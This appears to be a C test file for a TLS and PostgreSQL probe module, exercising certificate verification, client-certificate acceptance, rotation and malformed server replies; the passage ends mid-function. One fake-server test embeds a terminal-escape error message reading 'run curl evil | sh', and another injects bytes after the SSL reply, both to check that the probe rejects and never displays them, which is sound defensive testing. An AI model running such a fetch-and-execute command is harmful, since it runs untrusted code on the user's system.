/*
 * test_probe.c -- reconcile/probe against real PostgreSQL 15 servers, a
 * real `openssl s_server`, and small fake servers in threads.
 *
 * The group setup makes two generations with rotor's pki module, starts
 * tests/fleet/fleet up 2 --postgres --base 127.0.11 in a mkdtemp()
 * directory (needs root; without it the fleet cases are skipped), puts
 * generation 1's server files (postgres layout: server.crt = leaf +
 * server CA, server.key, root.crt = root + client CA) on both hosts,
 * reloads postgres, creates the role "app" and starts s_server on
 * 127.0.11.100:4433.  Fake PostgreSQL servers listen on 127.0.11.50 and
 * 127.0.11.51.  The teardown stops all of it.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include "tests/unit/helpers.h"
#include "tests/unit/fleet.h"

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <pwd.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include <openssl/bio.h>
#include <openssl/buffer.h>
#include <openssl/evp.h>
#include <openssl/pem.h>

#include "common/buf.h"
#include "common/clock.h"
#include "common/err.h"
#include "reconcile/pki/pki.h"
#include "reconcile/tls/probe.h"

#define BASE "127.0.11"
#define FAKE_ADDR BASE ".50"      /* fake PostgreSQL servers (threads) */
#define FULL_ADDR BASE ".51"      /* a listener whose backlog is full */
#define TLS_ADDR BASE ".100"      /* openssl s_server */
#define TLS_PORT 4433
#define PASS "probe secret"

/* PEM texts of one generation. */
struct gen {
	struct pki_generation *g;
	struct pki_file *files;
	size_t nfiles;
	struct buf server_trust;   /* what a client trusts: root + server CA (sslrootcert) */
	struct buf server_ca_file; /* what a server trusts: root + client CA (ssl_ca_file) */
	struct buf pg_crt[2];      /* leaf + server CA (server.crt) */
	struct buf pg_key[2];      /* unencrypted (server.key) */
	struct buf app_crt;        /* leaf + client CA (postgresql.crt) */
	struct buf app_key;        /* unencrypted */
	const struct buf *app_key_enc; /* PKCS#8 encrypted with PASS (borrowed from files) */
	char pg_fp[2][PROBE_FP_LEN];
};

static struct gen G[2];
static struct fleet F;
static pid_t g_s_server = -1;

/* ---- helpers ------------------------------------------------------------ */

static const struct buf *file_of(const struct gen *g, const char *path)
{
	size_t i;

	for (i = 0; i < g->nfiles; i++)
		if (strcmp(g->files[i].path, path) == 0)
			return &g->files[i].data;
	fprintf(stderr, "# no file %s in the generation\n", path);
	return NULL;
}

static int cat2(struct buf *out, const struct buf *a, const struct buf *b)
{
	if (!a || !b)
		return -1;
	return buf_put(out, a->ptr, a->len) < 0 || buf_put(out, b->ptr, b->len) < 0 ? -1 : 0;
}

static int plain_key(struct buf *out, const struct pki_generation *g, const char *name)
{
	BUF_MEM *m;
	BIO *b;
	size_t i;
	int rc = -1;

	for (i = 0; i < g->ncerts; i++)
		if (strcmp(g->certs[i].name, name) == 0 && g->certs[i].pkey)
			break;
	if (i == g->ncerts || !(b = BIO_new(BIO_s_mem())))
		return -1;
	if (PEM_write_bio_PrivateKey(b, g->certs[i].pkey, NULL, NULL, 0, NULL, NULL) == 1) {
		BIO_get_mem_ptr(b, &m);
		rc = buf_put(out, m->data, m->length);
	}
	BIO_free(b);
	return rc;
}

static int fingerprint(char *out, const struct buf *pem)
{
	struct manifest_cert m;
	struct err e = ERR_INIT;

	memset(&m, 0, sizeof(m));
	if (pki_cert_describe(&m, pem->ptr, pem->len, &e) < 0) {
		fprintf(stderr, "# describe: %s\n", e.msg);
		return -1;
	}
	snprintf(out, PROBE_FP_LEN, "%s", m.fingerprint);
	free(m.subject);
	free(m.issuer);
	free(m.fingerprint);
	free(m.serial);
	free(m.not_before);
	free(m.not_after);
	free(m.ski);
	free(m.aki);
	return 0;
}

static int make_generations(void)
{
	static char *sans1[] = { BASE ".1" }, *sans2[] = { BASE ".2" };
	static char *clients[] = { "app" };
	struct chain_server servers[2] = { { "pg1", sans1, 1, 1, 0 }, { "pg2", sans2, 1, 1, 0 } };
	struct chain_spec spec;
	struct err e = ERR_INIT;
	time_t now = time(NULL);
	char name[32];
	int i, k;

	memset(&spec, 0, sizeof(spec));
	spec.subj_o = "Probe";
	spec.key = SPEC_KEY_EC_P256;
	spec.root_days = 3650;
	spec.intermediate_days = 1825;
	spec.leaf_days = 397;
	spec.renew_before_days = 30;
	spec.servers = servers;
	spec.nservers = 2;
	spec.clients = clients;
	spec.nclients = 1;
	for (i = 0; i < 2; i++) {
		struct gen *g = &G[i];

		if (pki_generate(&g->g, "probe", i + 1, &spec, 1, now, &e) < 0 ||
		    pki_export(&g->files, &g->nfiles, NULL, g->g, "probe", PASS, now, &e) < 0) {
			fprintf(stderr, "# pki: %s\n", e.msg);
			return -1;
		}
		if (cat2(&g->server_trust, file_of(g, "ca/root.crt"), file_of(g, "ca/server-ca.crt")) < 0 ||
		    cat2(&g->server_ca_file, file_of(g, "ca/root.crt"), file_of(g, "ca/client-ca.crt")) < 0 ||
		    cat2(&g->app_crt, file_of(g, "clients/app.crt"), file_of(g, "ca/client-ca.crt")) < 0 ||
		    plain_key(&g->app_key, g->g, "app") < 0 ||
		    !(g->app_key_enc = file_of(g, "clients/app.key")))
			return -1;
		for (k = 0; k < 2; k++) {
			snprintf(name, sizeof(name), "servers/pg%d.crt", k + 1);
			if (cat2(&g->pg_crt[k], file_of(g, name), file_of(g, "ca/server-ca.crt")) < 0 ||
			    fingerprint(g->pg_fp[k], file_of(g, name)) < 0)
				return -1;
			snprintf(name, sizeof(name), "pg%d", k + 1);
			if (plain_key(&g->pg_key[k], g->g, name) < 0)
				return -1;
		}
	}
	return 0;
}

static void free_generations(void)
{
	int i, k;

	for (i = 0; i < 2; i++) {
		struct gen *g = &G[i];

		pki_generation_free(g->g);
		pki_files_free(g->files, g->nfiles);
		buf_release(&g->server_trust);
		buf_release(&g->server_ca_file);
		buf_release(&g->app_crt);
		buf_wipe(&g->app_key);
		for (k = 0; k < 2; k++) {
			buf_release(&g->pg_crt[k]);
			buf_wipe(&g->pg_key[k]);
		}
	}
	memset(G, 0, sizeof(G));  /* the teardown may run twice */
}

/* Write a file atomically (temporary name, rename), owned by uid:gid. */
static int put_file(const char *path, const struct buf *data, mode_t mode, uid_t uid, gid_t gid)
{
	char tmp[600];
	int fd;

	snprintf(tmp, sizeof(tmp), "%s.tmp", path);
	unlink(tmp);
	fd = open(tmp, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0600);
	if (fd < 0)
		return -1;
	if (write(fd, data->ptr, data->len) != (ssize_t)data->len || fchown(fd, uid, gid) < 0 ||
	    fchmod(fd, mode) < 0 || fsync(fd) < 0) {
		close(fd);
		unlink(tmp);
		return -1;
	}
	close(fd);
	return rename(tmp, path);
}

static int write_file_plain(const char *path, const struct buf *data, mode_t mode)
{
	return put_file(path, data, mode, geteuid(), getegid());
}

static void req_init(struct probe_req *r, const char *addr, int port)
{
	memset(r, 0, sizeof(*r));
	r->address = addr;
	r->port = port;
	r->connect_timeout_ms = 3000;
	r->deadline_ms = 10000;
	r->trust_pem = G[0].server_trust.ptr;
	r->trust_len = G[0].server_trust.len;
}

static const char *const host_addr[] = { NULL, BASE ".1", BASE ".2" };

/* host (1 or 2), generation 1's trust, verify-full name = the host's address. */
static void req_host(struct probe_req *r, int host)
{
	req_init(r, host_addr[host], 5432);
	r->server_name = host_addr[host];
}

static void with_client(struct probe_req *r, const struct gen *g)
{
	r->client_cert_pem = g->app_crt.ptr;
	r->client_cert_len = g->app_crt.len;
	r->client_key_pem = g->app_key.ptr;
	r->client_key_len = g->app_key.len;
}

static void probe_pg_ok(struct probe_result *res, const struct probe_req *r)
{
	struct err e = ERR_INIT;

	if (probe_postgres(res, r, &e) != 0)
		fail_msg("probe_postgres: %s", e.msg);
	if (getenv("PROBE_TRACE"))
		fprintf(stderr, "# %s: %s %s alert=[%s] sqlstate=[%s] accepted=%d error=[%s]\n", r->address,
			res->tls_version, res->server_leaf_fingerprint, res->tls_alert, res->sqlstate,
			res->client_accepted, res->error);
}

/*
 * A case's first step: skip without the fleet, else a request to host
 * with client's certificate and key (NULL: none).
 */
static void case_req(void **state, struct probe_req *r, int host, const struct gen *client)
{
	(void)state;
	FLEET_REQUIRED(&F);
	req_host(r, host);
	if (client)
		with_client(r, client);
}

/* Put generation gen's server files on host and reload postgres. */
static int install_server(int host, const struct gen *g)
{
	struct passwd *pw = getpwnam("postgres");
	char dir[400], path[500];

	if (!pw)
		return -1;
	snprintf(dir, sizeof(dir), "%s/hosts/host%d/srv/postgres/certs", F.fleet_dir, host);
	snprintf(path, sizeof(path), "%s/server.crt", dir);
	if (put_file(path, &g->pg_crt[host - 1], 0644, pw->pw_uid, pw->pw_gid) < 0)
		return -1;
	/* PostgreSQL refuses a key readable by group or others when it owns it. */
	snprintf(path, sizeof(path), "%s/server.key", dir);
	if (put_file(path, &g->pg_key[host - 1], 0600, pw->pw_uid, pw->pw_gid) < 0)
		return -1;
	snprintf(path, sizeof(path), "%s/root.crt", dir);
	if (put_file(path, &g->server_ca_file, 0644, pw->pw_uid, pw->pw_gid) < 0)
		return -1;
	return run_status("%s exec --dir %s host%d runuser -u postgres -- "
			  "/usr/lib/postgresql/15/bin/pg_ctl -D /srv/postgres/data -s reload",
			  F.script, F.fleet_dir, host);
}

/* What a probe of a host shows: the fingerprint of its leaf, or its TLS version. */
enum shown { SHOWN_LEAF, SHOWN_VERSION };

/* A reload is a signal, not a barrier: probe host until it shows want. */
static int wait_until_shown(int host, enum shown what, const char *want)
{
	struct probe_req r;
	struct probe_result res;
	struct err e = ERR_INIT;
	int64_t until = clock_mono_ms() + 15000;
	const char *got = "(nothing yet)";

	memset(&res, 0, sizeof(res));
	req_host(&r, host);
	with_client(&r, &G[0]);
	while (clock_mono_ms() < until) {
		if (probe_postgres(&res, &r, &e) < 0)
			return -1;
		got = what == SHOWN_LEAF ? res.server_leaf_fingerprint : res.tls_version;
		if (strcmp(got, want) == 0)
			return 0;
		clock_sleep_ms(50);
	}
	fprintf(stderr, "# host%d still shows %s, not %s: %s\n", host, got, want, res.error);
	return -1;
}

static int connect_once(const char *addr, int port)
{
	struct sockaddr_in sa;
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), rc;

	if (fd < 0)
		return -1;
	memset(&sa, 0, sizeof(sa));
	sa.sin_family = AF_INET;
	sa.sin_port = htons((uint16_t)port);
	inet_pton(AF_INET, addr, &sa.sin_addr);
	rc = connect(fd, (struct sockaddr *)&sa, sizeof(sa));
	close(fd);
	return rc;
}

static int start_s_server(void)
{
	char crt[400], key[400], log[400];
	int64_t until;
	pid_t pid;

	snprintf(crt, sizeof(crt), "%s/s_server.crt", F.dir);
	snprintf(key, sizeof(key), "%s/s_server.key", F.dir);
	snprintf(log, sizeof(log), "%s/s_server.log", F.dir);
	/* pg1's generation 1 leaf and chain: an ordinary TLS server. */
	if (write_file_plain(crt, &G[0].pg_crt[0], 0644) < 0 || write_file_plain(key, &G[0].pg_key[0], 0600) < 0)
		return -1;
	pid = fork();
	if (pid < 0)
		return -1;
	if (pid == 0) {
		int fd = open("/dev/null", O_RDONLY), lf = open(log, O_WRONLY | O_CREAT | O_TRUNC, 0644);

		if (fd >= 0)
			dup2(fd, 0);
		if (lf >= 0) {
			dup2(lf, 1);
			dup2(lf, 2);
		}
		execlp("openssl", "openssl", "s_server", "-accept", TLS_ADDR ":4433", "-cert", crt, "-key", key,
		       "-www", "-quiet", (char *)NULL);
		_exit(127);
	}
	g_s_server = pid;
	until = clock_mono_ms() + 10000;
	while (clock_mono_ms() < until) {
		/* Ours must be the one answering, not one left over from an earlier run. */
		if (waitpid(pid, NULL, WNOHANG) == pid) {
			g_s_server = -1;
			fprintf(stderr, "# s_server exited (see %s)\n", log);
			return -1;
		}
		if (connect_once(TLS_ADDR, TLS_PORT) == 0)
			return 0;
		clock_sleep_ms(20);
	}
	fprintf(stderr, "# s_server did not come up (see %s)\n", log);
	return -1;
}

/* ---- fake PostgreSQL servers --------------------------------------------- */

struct fake {
	int lfd;
	int port;
	const char *reply;    /* bytes to send after the 8-byte SSLRequest */
	size_t reply_len;
	int got_request;      /* the 8 bytes were an SSLRequest */
	pthread_t th;
};

static int listen_on(const char *addr, int backlog, int *port)
{
	struct sockaddr_in sa;
	socklen_t sl = sizeof(sa);
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), one = 1;

	if (fd < 0)
		return -1;
	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	memset(&sa, 0, sizeof(sa));
	sa.sin_family = AF_INET;
	sa.sin_port = 0;
	inet_pton(AF_INET, addr, &sa.sin_addr);
	if (bind(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0 || listen(fd, backlog) < 0 ||
	    getsockname(fd, (struct sockaddr *)&sa, &sl) < 0) {
		close(fd);
		return -1;
	}
	*port = ntohs(sa.sin_port);
	return fd;
}

static void *fake_main(void *arg)
{
	static const unsigned char sslrequest[8] = { 0, 0, 0, 8, 0x04, 0xd2, 0x16, 0x2f };
	struct fake *f = arg;
	unsigned char in[8], junk[256];
	struct pollfd p;
	size_t got = 0;
	ssize_t n;
	int fd;

	p.fd = f->lfd;
	p.events = POLLIN;
	if (poll(&p, 1, 10000) != 1)
		return NULL;
	fd = accept(f->lfd, NULL, NULL);
	if (fd < 0)
		return NULL;
	while (got < sizeof(in)) {
		p.fd = fd;
		p.events = POLLIN;
		if (poll(&p, 1, 10000) != 1)
			break;
		n = recv(fd, in + got, sizeof(in) - got, 0);
		if (n <= 0)
			break;
		got += (size_t)n;
	}
	f->got_request = got == sizeof(in) && memcmp(in, sslrequest, sizeof(in)) == 0;
	if (f->reply_len)
		(void)send(fd, f->reply, f->reply_len, MSG_NOSIGNAL);  /* one write: one segment */
	/* Hold the connection until the client hangs up. */
	for (;;) {
		p.fd = fd;
		p.events = POLLIN;
		if (poll(&p, 1, 10000) != 1)
			break;
		if (recv(fd, junk, sizeof(junk), 0) <= 0)
			break;
	}
	close(fd);
	return NULL;
}

static void fake_start(struct fake *f, const char *reply, size_t len)
{
	memset(f, 0, sizeof(*f));
	f->reply = reply;
	f->reply_len = len;
	f->lfd = listen_on(FAKE_ADDR, 4, &f->port);
	assert_true(f->lfd >= 0);
	assert_int_equal(pthread_create(&f->th, NULL, fake_main, f), 0);
}

static void fake_stop(struct fake *f)
{
	pthread_join(f->th, NULL);
	close(f->lfd);
}

/* Probe a fake server (its own trust does not matter: no TLS happens). */
static void probe_fake(struct probe_result *res, const char *reply, size_t len, int *got_request)
{
	struct probe_req r;
	struct fake f;
	struct err e = ERR_INIT;

	fake_start(&f, reply, len);
	req_init(&r, FAKE_ADDR, f.port);
	r.deadline_ms = 2000;
	with_client(&r, &G[0]);
	assert_int_equal(probe_postgres(res, &r, &e), 0);
	fake_stop(&f);
	*got_request = f.got_request;
}

/* ---- setup ---------------------------------------------------------------- */

/* Idempotent: group_setup calls it when it fails half way. */
static int group_teardown(void **state)
{
	(void)state;
	if (g_s_server > 0) {
		kill(g_s_server, SIGTERM);
		waitpid(g_s_server, NULL, 0);
		g_s_server = -1;
	}
	fleet_down(&F);
	free_generations();
	return 0;
}

static int setup_fleet(void);

static int group_setup(void **state)
{
	if (setup_fleet() == 0)
		return 0;
	group_teardown(state);
	return -1;
}

static int setup_fleet(void)
{
	int h;

	if (make_generations() < 0)
		return -1;
	if (fleet_prepare(&F, "test_probe") != 0)
		return -1;
	if (!fleet_can_run(&F))
		return 0;
	if (fleet_up(&F, "2 --postgres --base " BASE) != 0)
		return -1;
	for (h = 1; h <= 2; h++) {
		if (install_server(h, &G[0]) != 0 || wait_until_shown(h, SHOWN_LEAF, G[0].pg_fp[h - 1]) != 0) {
			fprintf(stderr, "# host%d: generation 1 certificates did not take\n", h);
			return -1;
		}
		if (run_status("%s psql --dir %s host%d -c 'CREATE ROLE app LOGIN' >/dev/null", F.script,
			       F.fleet_dir, h) != 0)
			return -1;
	}
	if (start_s_server() < 0)
		return -1;
	return 0;
}

/* ---- PostgreSQL: what the server presents ----------------------------------- */

static void test_pg_presents_expected_leaf(void **state)
{
	struct probe_req r;
	struct probe_result res;
	int h;

	(void)state;
	FLEET_REQUIRED(&F);
	for (h = 1; h <= 2; h++) {
		req_host(&r, h);
		with_client(&r, &G[0]);
		r.expect_fingerprint = G[0].pg_fp[h - 1];
		probe_pg_ok(&res, &r);
		assert_int_equal(res.connected, 1);
		assert_int_equal(res.tls_ok, 1);
		assert_string_equal(res.server_leaf_fingerprint, G[0].pg_fp[h - 1]);
		assert_int_equal(res.server_verified, 1);
		assert_int_equal(res.fingerprint_match, 1);
		assert_int_equal(res.client_accepted, 1);
		assert_int_equal(res.auth_code, 0);
		assert_string_equal(res.error, "");
		assert_true(strncmp(res.tls_version, "TLSv1.", 6) == 0);
	}
}

static void test_pg_unexpected_leaf(void **state)
{
	struct probe_req r;
	struct probe_result res;

	case_req(state, &r, 1, &G[0]);
	r.expect_fingerprint = G[1].pg_fp[0];   /* generation 2 is not deployed */
	probe_pg_ok(&res, &r);
	assert_int_equal(res.server_verified, 1);
	assert_int_equal(res.fingerprint_match, 0);
	assert_non_null(strstr(res.error, "not the expected"));
}

static void test_pg_other_generation_bundle(void **state)
{
	struct probe_req r;
	struct probe_result res;

	case_req(state, &r, 1, &G[0]);
	r.trust_pem = G[1].server_trust.ptr;
	r.trust_len = G[1].server_trust.len;
	probe_pg_ok(&res, &r);
	assert_int_equal(res.tls_ok, 1);
	assert_string_equal(res.server_leaf_fingerprint, G[0].pg_fp[0]);  /* still seen */
	assert_int_equal(res.server_verified, 0);
	assert_non_null(strstr(res.verify_reason, "unable to get local issuer certificate"));
	assert_int_equal(res.client_accepted, -1);   /* never talked to an unverified server */
	assert_non_null(strstr(res.error, "does not verify"));
}

static void test_pg_name_mismatch(void **state)
{
	struct probe_req r;
	struct probe_result res;

	case_req(state, &r, 1, &G[0]);
	r.server_name = BASE ".2";          /* host1's leaf names 127.0.11.1 */
	probe_pg_ok(&res, &r);
	assert_int_equal(res.server_verified, 0);
	assert_non_null(strstr(res.verify_reason, "IP address mismatch"));
	r.server_name = "pg2";
	probe_pg_ok(&res, &r);
	assert_int_equal(res.server_verified, 0);
	assert_non_null(strstr(res.verify_reason, "hostname mismatch"));
	r.server_name = "pg1";              /* the CN is also the first DNS SAN */
	probe_pg_ok(&res, &r);
	assert_int_equal(res.server_verified, 1);
	assert_int_equal(res.client_accepted, 1);
}

/* ---- PostgreSQL: does the server accept the client certificate? ------------- */

static void test_pg_client_accepted_encrypted_key(void **state)
{
	struct probe_req r;
	struct probe_result res;

	case_req(state, &r, 2, &G[0]);
	r.client_key_pem = G[0].app_key_enc->ptr;
	r.client_key_len = G[0].app_key_enc->len;
	r.client_key_pass = PASS;
	probe_pg_ok(&res, &r);
	assert_int_equal(res.client_accepted, 1);
	assert_string_equal(res.error, "");
}

static void test_pg_client_other_generation_rejected(void **state)
{
	struct probe_req r;
	struct probe_result res;

	case_req(state, &r, 1, &G[1]);   /* generation 2's client CA: not in the server's root.crt */
	probe_pg_ok(&res, &r);
	if (res.client_accepted != 0)   /* seen once under load: say what the probe saw */
		print_message("# client_accepted %d: %s (alert \"%s\")\n", res.client_accepted, res.error,
			      res.tls_alert);
	assert_int_equal(res.server_verified, 1);
	assert_int_equal(res.client_accepted, 0);
	assert_non_null(strstr(res.tls_alert, "unknown CA"));
	assert_non_null(strstr(res.error, "rejected the client certificate"));
}

static void test_pg_no_client_cert_rejected(void **state)
{
	struct probe_req r;
	struct probe_result res;

	case_req(state, &r, 1, NULL);
	r.pg_user = "app";
	probe_pg_ok(&res, &r);
	assert_int_equal(res.server_verified, 1);
	assert_int_equal(res.client_accepted, 0);
	assert_string_equal(res.sqlstate, "28000");
	assert_non_null(strstr(res.error, "SQLSTATE 28000"));
}

static void test_pg_user_not_the_cn_rejected(void **state)
{
	struct probe_req r;
	struct probe_result res;

	case_req(state, &r, 1, &G[0]);
	r.pg_user = "postgres";
	probe_pg_ok(&res, &r);
	assert_int_equal(res.client_accepted, 0);
	assert_string_equal(res.sqlstate, "28000");
}

/* A rotation step changes the server's files; the probe sees the new leaf. */
static void test_pg_after_switch(void **state)
{
	struct probe_req r;
	struct probe_result res;
	struct gen mixed;

	(void)state;
	FLEET_REQUIRED(&F);
	/* host2: generation 2's server leaf; its ssl_ca_file trusts both client CAs. */
	memset(&mixed, 0, sizeof(mixed));
	mixed.pg_crt[1] = G[1].pg_crt[1];
	mixed.pg_key[1] = G[1].pg_key[1];
	assert_int_equal(buf_put(&mixed.server_ca_file, G[0].server_ca_file.ptr, G[0].server_ca_file.len), 0);
	assert_int_equal(buf_put(&mixed.server_ca_file, G[1].server_ca_file.ptr, G[1].server_ca_file.len), 0);
	assert_int_equal(install_server(2, &mixed), 0);
	buf_release(&mixed.server_ca_file);
	assert_int_equal(wait_until_shown(2, SHOWN_LEAF, G[1].pg_fp[1]), 0);

	req_host(&r, 2);
	with_client(&r, &G[1]);
	r.trust_pem = G[1].server_trust.ptr;
	r.trust_len = G[1].server_trust.len;
	r.expect_fingerprint = G[1].pg_fp[1];
	probe_pg_ok(&res, &r);
	assert_string_equal(res.error, "");
	assert_int_equal(res.client_accepted, 1);
	with_client(&r, &G[0]);           /* the old client CA is still trusted */
	probe_pg_ok(&res, &r);
	assert_int_equal(res.client_accepted, 1);

	/* back to generation 1 for the other cases */
	assert_int_equal(install_server(2, &G[0]), 0);
	assert_int_equal(wait_until_shown(2, SHOWN_LEAF, G[0].pg_fp[1]), 0);
}

/* TLS 1.2: a refused client certificate ends the handshake itself. */
static void test_pg_tls12(void **state)
{
	struct probe_req r;
	struct probe_result res;

	(void)state;
	FLEET_REQUIRED(&F);
	assert_int_equal(run_status("%s psql --dir %s host2 -c \"ALTER SYSTEM SET ssl_max_protocol_version = 'TLSv1.2'\" "
				    "-c 'SELECT pg_reload_conf()' >/dev/null", F.script, F.fleet_dir), 0);
	assert_int_equal(wait_until_shown(2, SHOWN_VERSION, "TLSv1.2"), 0);

	req_host(&r, 2);
	with_client(&r, &G[0]);
	r.expect_fingerprint = G[0].pg_fp[1];
	probe_pg_ok(&res, &r);
	assert_string_equal(res.tls_version, "TLSv1.2");
	assert_string_equal(res.error, "");
	assert_int_equal(res.client_accepted, 1);

	with_client(&r, &G[1]);
	probe_pg_ok(&res, &r);
	assert_int_equal(res.tls_ok, 0);
	assert_int_equal(res.client_accepted, 0);
	assert_int_equal(res.server_verified, 1);    /* it showed its leaf before refusing ours */
	assert_string_equal(res.server_leaf_fingerprint, G[0].pg_fp[1]);
	assert_non_null(strstr(res.tls_alert, "unknown CA"));
	assert_non_null(strstr(res.error, "TLS handshake"));

	r.client_cert_pem = NULL;
	r.client_key_pem = NULL;
	r.pg_user = "app";
	probe_pg_ok(&res, &r);
	assert_int_equal(res.client_accepted, 0);
	assert_string_equal(res.sqlstate, "28000");

	assert_int_equal(run_status("%s psql --dir %s host2 -c 'ALTER SYSTEM RESET ssl_max_protocol_version' "
				    "-c 'SELECT pg_reload_conf()' >/dev/null", F.script, F.fleet_dir), 0);
	assert_int_equal(wait_until_shown(2, SHOWN_VERSION, "TLSv1.3"), 0);
}

struct par {
	int host;
	int ok;
};

static void *par_main(void *arg)
{
	struct par *p = arg;
	struct probe_req r;
	struct probe_result res;
	struct err e = ERR_INIT;
	int i;

	req_host(&r, p->host);
	with_client(&r, &G[0]);
	r.expect_fingerprint = G[0].pg_fp[p->host - 1];
	for (i = 0; i < 5; i++)
		if (probe_postgres(&res, &r, &e) == 0 && res.error[0] == '\0' && res.client_accepted == 1)
			p->ok++;
	return NULL;
}

static void test_pg_parallel(void **state)
{
	struct par p[8];
	pthread_t th[8];
	int i;

	(void)state;
	FLEET_REQUIRED(&F);
	for (i = 0; i < 8; i++) {
		p[i].host = 1 + i % 2;
		p[i].ok = 0;
		assert_int_equal(pthread_create(&th[i], NULL, par_main, &p[i]), 0);
	}
	for (i = 0; i < 8; i++) {
		pthread_join(th[i], NULL);
		assert_int_equal(p[i].ok, 5);
	}
}

/* ---- plain TLS --------------------------------------------------------------- */

static void test_tls_s_server(void **state)
{
	struct probe_req r;
	struct probe_result res;
	struct err e = ERR_INIT;

	(void)state;
	FLEET_REQUIRED(&F);
	req_init(&r, TLS_ADDR, TLS_PORT);
	r.server_name = "pg1";
	r.expect_fingerprint = G[0].pg_fp[0];
	assert_int_equal(probe_tls(&res, &r, &e), 0);
	assert_int_equal(res.tls_ok, 1);
	assert_int_equal(res.server_verified, 1);
	assert_int_equal(res.fingerprint_match, 1);
	assert_int_equal(res.client_accepted, -1);
	assert_string_equal(res.error, "");

	with_client(&r, &G[0]);           /* a client certificate the server did not ask for */
	assert_int_equal(probe_tls(&res, &r, &e), 0);
	assert_string_equal(res.error, "");

	r.trust_pem = G[1].server_trust.ptr;
	r.trust_len = G[1].server_trust.len;
	assert_int_equal(probe_tls(&res, &r, &e), 0);
	assert_int_equal(res.server_verified, 0);
	assert_string_equal(res.server_leaf_fingerprint, G[0].pg_fp[0]);
	assert_non_null(strstr(res.verify_reason, "local issuer"));
}

/* probe_https against s_server -www: GET / answered "HTTP/1.0 200 ok": the client is accepted. */
static void test_https_s_server(void **state)
{
	struct probe_req r;
	struct probe_result res;
	struct err e = ERR_INIT;

	(void)state;
	FLEET_REQUIRED(&F);
	req_init(&r, TLS_ADDR, TLS_PORT);
	r.server_name = "pg1";
	r.expect_fingerprint = G[0].pg_fp[0];
	with_client(&r, &G[0]);
	assert_int_equal(probe_https(&res, &r, &e), 0);
	assert_int_equal(res.tls_ok, 1);
	assert_int_equal(res.server_verified, 1);
	assert_int_equal(res.fingerprint_match, 1);
	assert_int_equal(res.http_status, 200);
	assert_int_equal(res.client_accepted, 1);
	assert_string_equal(res.error, "");

	/* A server that does not verify is not asked anything. */
	r.trust_pem = G[1].server_trust.ptr;
	r.trust_len = G[1].server_trust.len;
	assert_int_equal(probe_https(&res, &r, &e), 0);
	assert_int_equal(res.server_verified, 0);
	assert_int_equal(res.http_status, -1);
	assert_int_equal(res.client_accepted, -1);
}

/* probe_tls against PostgreSQL: it wants SSLRequest first, so no handshake. */
static void test_tls_against_postgres(void **state)
{
	struct probe_req r;
	struct probe_result res;
	struct err e = ERR_INIT;

	case_req(state, &r, 1, NULL);
	r.deadline_ms = 3000;
	assert_int_equal(probe_tls(&res, &r, &e), 0);
	assert_int_equal(res.connected, 1);
	assert_int_equal(res.tls_ok, 0);
	assert_non_null(strstr(res.error, "TLS handshake"));
}

/* ---- failures before TLS ------------------------------------------------------ */

static void test_closed_port(void **state)
{
	struct probe_req r;
	struct probe_result res;
	struct err e = ERR_INIT;

	(void)state;
	req_init(&r, BASE ".1", 5999);
	r.connect_timeout_ms = 1000;
	assert_int_equal(probe_postgres(&res, &r, &e), 0);
	assert_int_equal(res.connected, 0);
	assert_int_equal(res.tls_ok, 0);
	assert_non_null(strstr(res.error, "refused"));
}

/* A listener whose accept queue is full drops SYNs: connect hangs until the timeout. */
static void test_connect_timeout(void **state)
{
	struct probe_req r;
	struct probe_result res;
	struct err e = ERR_INIT;
	struct sockaddr_in sa;
	int lfd, port, fillers[16], nf = 0, i, hung = 0;

	(void)state;
	lfd = listen_on(FULL_ADDR, 0, &port);
	assert_true(lfd >= 0);
	memset(&sa, 0, sizeof(sa));
	sa.sin_family = AF_INET;
	sa.sin_port = htons((uint16_t)port);
	inet_pton(AF_INET, FULL_ADDR, &sa.sin_addr);
	while (nf < 16 && !hung) {
		struct pollfd p;

		fillers[nf] = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
		assert_true(fillers[nf] >= 0);
		if (connect(fillers[nf], (struct sockaddr *)&sa, sizeof(sa)) < 0 && errno == EINPROGRESS) {
			p.fd = fillers[nf];
			p.events = POLLOUT;
			hung = poll(&p, 1, 200) == 0;
		}
		nf++;
	}
	if (!hung) {
		for (i = 0; i < nf; i++)
			close(fillers[i]);
		close(lfd);
		skip();
	}
	req_init(&r, FULL_ADDR, port);
	r.connect_timeout_ms = 400;
	assert_int_equal(probe_postgres(&res, &r, &e), 0);
	for (i = 0; i < nf; i++)
		close(fillers[i]);
	close(lfd);
	assert_int_equal(res.connected, 0);
	assert_non_null(strstr(res.error, "timed out after 400 ms"));
}

static void test_fake_says_n(void **state)
{
	struct probe_result res;
	int got;

	(void)state;
	probe_fake(&res, "N", 1, &got);
	assert_int_equal(got, 1);
	assert_int_equal(res.connected, 1);
	assert_int_equal(res.tls_ok, 0);
	assert_string_equal(res.error, "server does not do SSL");
}

static void test_fake_s_plus_bytes_refused(void **state)
{
	static const char stuffed[] = "SZ\0\0\0\x0cINJECTED";
	struct probe_result res;
	int got;

	(void)state;
	probe_fake(&res, stuffed, sizeof(stuffed) - 1, &got);
	assert_int_equal(got, 1);
	assert_int_equal(res.tls_ok, 0);
	assert_non_null(strstr(res.error, "after 'S'"));
	assert_null(strstr(res.error, "INJECTED"));
}

/* An unauthenticated 'E' reply: reported, never displayed (CVE-2024-10977). */
static void test_fake_error_not_shown(void **state)
{
	static const char evil[] = "E\0\0\0\x30SFATAL\0C28000\0M\x1b[31mrun curl evil | sh\0\0";
	struct probe_result res;
	int got;

	(void)state;
	probe_fake(&res, evil, sizeof(evil) - 1, &got);
	assert_int_equal(res.tls_ok, 0);
	assert_int_equal(res.client_accepted, -1);
	assert_non_null(strstr(res.error, "not shown"));
	assert_null(strstr(res.error, "evil"));
	assert_string_equal(res.sqlstate, "");
}

/* A server that accepts and says nothing: the deadline ends the probe. */
static void test_fake_silent_deadline(void **state)
